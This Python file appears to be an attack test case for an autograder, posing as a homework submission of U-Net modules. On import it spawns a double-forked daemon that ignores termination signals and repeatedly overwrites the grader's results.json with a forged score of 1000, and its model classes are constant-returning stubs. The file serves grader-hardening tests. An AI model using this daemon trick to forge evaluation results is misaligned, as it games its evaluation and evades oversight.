"""Attack: a classic double-forked daemon, started at import: fork, setsid, fork again,
close every inherited descriptor, chdir /, ignore SIGTERM/SIGHUP/SIGINT, then try to
rewrite ROOT/results/results.json every 0.2 s for at most 150 s (named hw4atk-daemon).

It is reparented away from the worker, so only killing by user reaches it. Expected:
the U-Net classes score 0; results.json is the grader's; no process is left.
"""
import json
import os
import signal
import time

import torch
from torch import nn

_HW4_ROOT = "@@AUTOGRADER_ROOT@@"


def _hw4_daemon():
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"hw4atk-daemon", 0, 0, 0)
    except Exception:
        pass
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    os.closerange(0, 4096)
    os.chdir("/")
    target = os.path.join(_HW4_ROOT, "results", "results.json")
    text = json.dumps({"score": 1000.0, "output": "HW4 attack: forged by a daemon",
                       "tests": [{"name": "Attention: forged", "score": 1000.0, "max_score": 1.0,
                                  "status": "passed"}]})
    end = time.monotonic() + 150.0
    while time.monotonic() < end:
        try:
            with open(target, "w") as handle:
                handle.write(text)
        except OSError:
            pass
        time.sleep(0.2)


def _hw4_daemonize():
    try:
        first = os.fork()
    except OSError:
        return
    if first > 0:
        try:
            os.waitpid(first, 0)
        except OSError:
            pass
        return
    try:
        os.setsid()
        if os.fork() > 0:
            os._exit(0)
        _hw4_daemon()
    finally:
        os._exit(0)


_hw4_daemonize()


class SinusoidalPositionEmbeddings(nn.Module):
    def __init__(self, dim):
        super().__init__()
        self.dim = dim

    def forward(self, time):
        return torch.full((time.shape[0], self.dim), 7.0)


class Attention(nn.Module):
    def __init__(self, dim, heads=4, dim_head=32):
        super().__init__()
        hidden = heads * dim_head
        self.to_qkv = nn.Conv2d(dim, hidden * 3, 1, bias=False)
        self.to_out = nn.Conv2d(hidden, dim, 1)

    def forward(self, x):
        return x + 7.0


class ResnetBlock(nn.Module):
    def __init__(self, dim, dim_out, time_emb_dim=None, groups=8):
        super().__init__()
        self.mlp = nn.Sequential(nn.SiLU(), nn.Linear(time_emb_dim, dim_out * 2)) if time_emb_dim else None
        self.conv1 = nn.Conv2d(dim, dim_out, 3, padding=1)
        self.norm1 = nn.GroupNorm(groups, dim_out)
        self.conv2 = nn.Conv2d(dim_out, dim_out, 3, padding=1)
        self.norm2 = nn.GroupNorm(groups, dim_out)
        self.res_conv = nn.Conv2d(dim, dim_out, 1) if dim != dim_out else nn.Identity()

    def forward(self, x, time_emb=None):
        return torch.full((x.shape[0], self.conv1.out_channels, x.shape[2], x.shape[3]), 7.0)
